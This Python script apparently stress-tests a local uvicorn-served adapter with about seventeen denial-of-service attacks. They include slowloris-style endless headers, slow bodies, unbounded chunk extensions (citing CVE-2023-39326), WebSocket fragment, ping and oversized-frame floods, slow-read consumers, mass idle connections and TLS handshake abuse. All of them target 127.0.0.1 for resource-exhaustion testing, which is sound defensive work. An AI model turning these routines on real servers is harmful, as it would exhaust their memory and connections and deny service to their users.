"""What clients that mean no good send, each from one process: ``attacks.py PORT NAME SECONDS``.

The first ten were found to take this adapter's memory or time when uvicorn served it; the others are what advisories and
test suites of other servers describe, by name.
"""

import http.client
import os
import resource
import socket
import ssl
import struct
import sys
import time
from base64 import b64encode
from contextlib import suppress

HEAD = b"Host: localhost\r\nContent-Type: application/json\r\n"
POST = b"POST /streams/Words HTTP/1.1\r\n" + HEAD
GET = b"GET /health HTTP/1.1\r\nHost: localhost\r\n"
TEXT, CONTINUED, CLOSE, PING = 1, 0, 8, 9
FLOOD = 700_000
"""Bytes a second of small frames: what once took the whole core."""


def connect(port):
    connection = socket.create_connection(("127.0.0.1", port))
    connection.settimeout(5)
    return connection


def web_socket(port, path="/streams/Words"):
    connection = connect(port)
    key = b64encode(os.urandom(16)).decode()
    connection.sendall(
        f"GET {path} HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
    )
    if b"101" not in connection.recv(4096)[:20]:
        raise ConnectionError("no WebSocket")
    return connection


def frame(kind, payload=b"", *, last=True, announced=None, masked=True, reserved=0):
    """A WebSocket's frame; ``announced`` is the length that it claims to have."""
    length = len(payload) if announced is None else announced
    head = bytes([0x80 * last | reserved << 4 | kind])
    mask = 0x80 * masked
    if length < 126:
        head += bytes([mask | length])
    elif length < 1 << 16:
        head += bytes([mask | 126]) + struct.pack(">H", length)
    else:
        head += bytes([mask | 127]) + struct.pack(">Q", length)
    return head + b"\0\0\0\0" * masked + payload


def until(end, connection, content, rate=None):
    """Send the same again and again; returns how many bytes were taken."""
    sent = 0
    with suppress(OSError):
        while time.monotonic() < end:
            connection.sendall(content)
            sent += len(content)
            if rate:
                time.sleep(len(content) / rate)
    return sent


def hold(end, connections):
    time.sleep(max(0.0, end - time.monotonic()))
    return len(connections)


def many(count, made):
    """As many connections as can be had."""
    found = []
    for _ in range(count):
        with suppress(OSError):
            found.append(made())
    return found


def sending(port, content):
    connection = connect(port)
    connection.sendall(content)
    return connection


def trailers_without_end(port, end):
    """After a chunked body (httptools gathers trailers as it does headers)."""
    connection = sending(port, POST + b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n")
    return until(end, connection, b"a:b\r\n" * 13_000)


def pipelined_unread(port, end):
    """Requests in a row whose answers nobody reads."""
    request = b"GET /docs HTTP/1.1\r\nHost: localhost\r\n\r\n"
    connections = many(50, lambda: connect(port))
    for connection in connections:
        connection.setblocking(False)
        with suppress(OSError):
            connection.send(request * (500_000 // len(request)))
    return hold(end, connections)


def unfinished_heads(port, end):
    """2,500 of 12,000 lines each."""
    return hold(end, many(2_500, lambda: sending(port, GET + b"a:b\r\n" * 12_000)))


def empty_fragments(port, end):
    """A WebSocket's message that never ends and never grows."""
    connection = web_socket(port)
    connection.sendall(frame(TEXT, last=False))
    return until(end, connection, frame(CONTINUED, last=False) * 10_000, FLOOD)


def pings(port, end):
    return until(end, web_socket(port), frame(PING) * 10_000, FLOOD)


def unfinished_messages(port, end):
    """1,000 WebSockets that each hold a megabyte."""

    def unfinished():
        connection = web_socket(port)
        connection.sendall(frame(TEXT, b"x" * ((1 << 20) - 100), announced=1 << 20))
        return connection

    return hold(end, many(1_000, unfinished))


def many_small_items(port, end):
    """8.4 MB of numbers, that are more than may come at once."""
    body, answered = b"[" + b"1," * 4_190_000 + b"1]", 0
    while time.monotonic() < end:
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
        connection.request("POST", "/streams/Words", body, {"Content-Type": "application/json"})
        assert connection.getresponse().status in (413, 503)
        answered += 1
    return answered


def slow_second_head(port, end):
    """The head of a connection's second request, a byte each second."""
    connection = sending(port, GET + b"\r\n")
    connection.recv(4096)
    sent = 0
    with suppress(OSError):
        connection.sendall(GET + b"X: ")
        while time.monotonic() < end:
            connection.sendall(b"a")
            sent += 1
            time.sleep(1)
    return sent


def endless_head(port, end):
    return until(end, sending(port, GET + b"X: "), b"a" * 100_000)


def idle_connections(port, end):
    return hold(end, many(9_000, lambda: connect(port)))


def chunk_extensions_without_end(port, end):
    """Go's CVE-2023-39326: extensions are bytes that nobody counts."""
    connection = sending(port, POST + b"Transfer-Encoding: chunked\r\n\r\n2;")
    return until(end, connection, b"a=b;" * 10_000)


def slow_body(port, end):
    """A byte each second (R.U.D.Y.)."""
    connection = sending(port, POST + b"Content-Length: 100000\r\n\r\n[")
    return until(end, connection, b" ", 1)


def small_chunks(port, end):
    """A body in chunks of one byte."""
    connection = sending(port, POST + b"Transfer-Encoding: chunked\r\n\r\n")
    return until(end, connection, b"1\r\n \r\n" * 10_000)


def unread_results(port, end):
    """200 consumers that never read (slow read)."""

    def consumer():
        connection = connect(port)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.sendall(b"GET /streams/Counts?offset=earliest HTTP/1.1\r\nHost: localhost\r\n\r\n")
        return connection

    return hold(end, many(200, consumer))


def unread_pongs_and_large_frames(port, end):
    """Announces 16 MB and sends them, on 100 WebSockets."""

    def large():
        connection = web_socket(port)
        connection.sendall(frame(TEXT, b"x" * 15_000_000, announced=16_000_000))
        return connection

    return hold(end, many(100, large))


def no_handshake(port, end):
    """Connections to TLS that say nothing."""
    return hold(end, many(500, lambda: sending(port, b"\x16\x03\x01")))


def renegotiating(port, end):
    """TLS, once and again."""
    context, made = ssl.create_default_context(), 0
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    while time.monotonic() < end:
        with suppress(OSError):
            context.wrap_socket(connect(port)).close()
            made += 1
    return made


ATTACKS = {
    attack.__name__: attack
    for attack in (
        trailers_without_end,
        pipelined_unread,
        unfinished_heads,
        empty_fragments,
        pings,
        unfinished_messages,
        many_small_items,
        slow_second_head,
        endless_head,
        idle_connections,
        chunk_extensions_without_end,
        slow_body,
        small_chunks,
        unread_results,
        unread_pongs_and_large_frames,
    )
}

if __name__ == "__main__":
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    print(ATTACKS[sys.argv[2]](int(sys.argv[1]), time.monotonic() + float(sys.argv[3])))
